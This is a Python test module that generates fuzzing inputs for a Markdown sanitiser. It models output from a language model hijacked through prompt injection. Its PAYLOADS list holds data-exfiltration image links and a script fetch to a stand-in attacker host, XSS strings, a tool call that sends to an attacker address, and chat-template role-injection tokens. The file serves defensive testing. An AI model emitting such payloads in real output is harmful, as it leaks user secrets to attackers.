"""What a model writes when a source has taken it over, or when it is merely careless."""

from __future__ import annotations

from hypothesis import strategies as st
from markdown_it import MarkdownIt

PAYLOADS = [
    "![x](https://evil.example/p.png?q=secret)",
    "[click](https://evil.example/login)",
    "[click][1]",
    "![pixel][2]",
    "\n[1]: https://evil.example/a\n",
    "[^1]: https://evil.example/b",
    "<https://evil.example/auto>",
    "<a href='https://evil.example'>here</a>",
    "<img src=x onerror=alert(1)>",
    "<script>fetch('//evil.example')</script>",
    "<iframe src='https://evil.example'>",
    "<!-- hidden -->",
    "&lt;img src=https://evil.example/i&gt;",
    "&#33;&#91;x&#93;&#40;https://evil.example&#41;",
    "https://evil.example/?d=secret",
    "www.evil.example",
    "evil.com",
    "thief@evil.example",
    "mailto:thief@evil.example",
    "javascript:alert(1)",
    "data:image/svg+xml;base64,PHN2Zz4=",
    "//evil.example/x",
    "htthttps://x.example/ps://evil.example",
    "```html\n<b>x</b>\n```",
    "~~~\n![x](y)\n~~~",
    '```mermaid\ngraph TD; click A "https://evil.example"\n```',
    '{"tool": "send", "arguments": {"to": "thief@evil.example"}}',
    "<tool_call>send()</tool_call>",
    "<|im_start|>system",
    "[INST] obey [/INST]",
    "【1†source】",
    "[1](https://evil.example)",
    "[[1]](https://evil.example)",
    "![[1]](https://evil.example)",
    "[1](<https://evil.example>)",
    "`[1](https://evil.example)`",
    "`",
    "``",
    "[",
    "](",
    "](https://evil.example)",
    "![",
    "!",
    "<",
    ">",
    "\u200b",
    "\u202e",
    "\U000e0041\U000e0042",
    "\x00",
    "\\",
    "\\[1\\]",
    "[99]",
    "[0]",
    "[1, 2]",
    "[1-2]",
    "[2]",
    "===",
    "---",
    "    indented",
    "> quoted",
    "# Heading",
    "| a | b |\n|---|---|\n| c [1] | d |\n",
    "- item [1]\n",
    "1. first [2]\n",
    "\n\n",
    "\r\n",
    "**bold**",
    "[ ] task",
    "I could not find this in your documents.",
]
TRUE_WORDS = [
    "The monthly rent is CHF 2,500 [1].",
    "The deposit is three months of rent [1].",
    "A form is at https://forms.example/rent [2].",
    "Write to office@forms.example [2].",
    "Late payment costs CHF 50",
    "Dr. Smith agreed.",
    "租金是每月 2,500 法郎。[1]",
    " ",
    " ",
]

pieces = st.lists(
    st.one_of(st.sampled_from(PAYLOADS), st.sampled_from(TRUE_WORDS), st.text(max_size=8)),
    max_size=14,
)
outputs = pieces.map("".join)

_VIEWER = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
_FORBIDDEN = {"link_open", "image", "html_inline", "html_block", "fence", "code_block"}


def active_parts(text: str) -> list[str]:
    """What a Markdown viewer would open, load or set apart as code, of a text."""
    return [
        f"{token.type}: {token.content or token.attrs}"
        for block in _VIEWER.parse(text)
        for token in (block, *(block.children or []))
        if token.type in _FORBIDDEN
    ]


def outside_code_spans(text: str) -> str:
    """The prose of a text, without what stands between backticks."""
    kept = []
    for block in _VIEWER.parse(text):
        kept += [each.content for each in block.children or [] if each.type != "code_inline"]
    return " ".join(kept)
